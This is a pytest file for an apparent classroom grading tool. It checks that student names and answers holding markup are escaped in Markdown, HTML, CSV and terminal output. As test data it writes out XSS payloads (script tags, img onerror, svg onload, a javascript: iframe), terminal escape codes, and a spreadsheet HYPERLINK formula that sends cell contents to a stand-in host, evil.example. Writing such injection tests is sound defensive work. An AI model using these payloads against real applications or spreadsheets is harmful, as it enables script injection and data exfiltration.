"""Markup and formula payloads in students' text and names (issue 16, defect 4): shown, never run."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest

from greenpen.classroom import class_report, gradebook
from greenpen.cli.common import terminal_safe
from greenpen.renderers import html, markdown
from greenpen.store.db import Store
from tests.class_fixtures import make_report, qreport

pytest.importorskip("sqlite_utils")

IMG = '<img src=x onerror=alert(1) title="<">'
SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [IMG, SCRIPT, "<svg/onload=alert(1)>", "<!-- x --><iframe src=javascript:alert(1)>", "</sub><b>x",
            "![t](http://tracker.example/pixel.png)"]
RAW_TAG = re.compile(r"<(?!/?sub>)[/A-Za-z!?]")
"""Any tag but the renderer's own `<sub>`: what a Markdown viewer allowing raw HTML would run."""


def evil_report(payload: str):
    q = qreport("rank-3", "correct", 1.0, answer=f"a tensor {payload} with three axes", feedback=f"Good: {payload}")
    report = make_report(f"Ana {payload}", f"{payload}`.md", [q])
    return replace(report, unaligned=(payload,), notes=(payload,),
                   overall=replace(report.overall, text=f"Overall {payload}"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markdown_report_lets_no_html_through(payload: str) -> None:
    text = markdown.render(evil_report(payload))
    outside_code = re.sub(r"`[^`\n]*`", "", text)  # a code span shows its text literally
    assert not RAW_TAG.search(outside_code), text
    assert not re.search(r"(?<!\\)!\[", outside_code), text  # no remote image is fetched
    header = text.splitlines()[2]
    assert header.count("`") == 2  # the file name stays inside its code span


@pytest.mark.parametrize("payload", PAYLOADS)
def test_html_report_escapes_everything(payload: str) -> None:
    page = html.render(evil_report(payload))
    if "<" in payload:
        assert payload not in page
    assert "onerror=alert" not in page.replace("onerror=alert(1) title=&quot;", "")


@pytest.mark.parametrize("answer", [
    "a `<function f>` in code, and <img src=x onerror=alert(1)> outside it",
    "\\`<img src=x onerror=alert(1)>` (a backslash makes the backtick a character)",
    "```py`x\n<script>alert(1)</script>\n```",  # a backtick in the info string: no fence
    "``<script>alert(1)</script>``",
    "```python\nf = <function _resnet_split>\n```\n\nafter it <svg/onload=alert(1)>",
])
def test_code_shows_its_text_and_nothing_else_runs(answer: str) -> None:
    """"'split': <function _resnet_split>" in a student's code block had shown as "&lt;function…" in the Markdown
    report; code is shown as written, and whatever a CommonMark renderer with raw HTML would not take for code stays
    escaped."""
    from markdown_it import MarkdownIt

    text = markdown.escape(answer)
    page = MarkdownIt("commonmark", {"html": True}).render(text)
    assert not re.search(r"<(?:img|script|svg)\b", page), page
    if "_resnet_split" in answer or "<function f>" in answer:
        assert "&amp;lt;" not in page and ("&lt;function" in page), page


def test_markdown_names_are_escaped_inline() -> None:
    assert markdown.escape_inline("**Ana** [x](javascript:alert(1)) | `b`\n# c") == (
        "\\*\\*Ana\\*\\* \\[x\\](javascript:alert(1)) \\| \\`b\\` \\# c")


def class_store() -> tuple[Store, int]:
    store = Store.memory()
    run = store.create_run("week4 <script>", "fake")
    for student in (f"{SCRIPT} Ana", FORMULA, "-2+3 Cmd", "@SUM(A1) Bob", "Ben Lima"):
        report = make_report(student, f"c.csv#{student}", [qreport("rank-3", "correct", 1.0, answer=IMG)])
        store.save_graded(run, None, report)
    store.save_failed(run, f"{IMG}.md", f"{IMG}.md: cannot be read")
    return store, run


def test_class_report_markdown_shows_no_html() -> None:
    store, run = class_store()
    summary = class_report.summarise("week4 <script>", store.submissions(run))
    text = class_report.to_markdown(summary)
    assert not RAW_TAG.search(text), text
    assert "# Class report: week4 &lt;script>" in text
    assert '- &lt;img src=x onerror=alert(1) title="<">.md: &lt;img' in text


@pytest.mark.parametrize("fmt", list(gradebook.formats()))
def test_gradebook_exports_no_formula(fmt: str) -> None:
    store, run = class_store()
    text, _ = gradebook.export(store.submissions(run), fmt, title="=1+1")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not _number(c))]
    assert any(c.startswith("'=HYPERLINK(") or c.startswith("'=") for c in cells)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_terminal_escape_codes_are_made_visible() -> None:
    shown = terminal_safe("Ana\x1b]0;pwned\x07 \x1b[2J\r\x9b31m ok\n")
    assert shown == "Ana\\x1b]0;pwned\\x07 \\x1b[2J\\r\\x9b31m ok\n"
